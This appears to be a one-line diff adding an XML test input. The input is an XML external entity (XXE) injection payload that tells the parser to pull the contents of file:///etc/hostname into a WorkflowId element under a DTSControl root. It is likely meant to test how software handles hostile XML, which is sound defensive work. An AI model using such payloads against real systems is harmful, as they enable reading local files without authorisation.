@@ -1,0 +1,1 @@
+<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]><DTSControl><WorkflowId>&x;</WorkflowId></DTSControl>
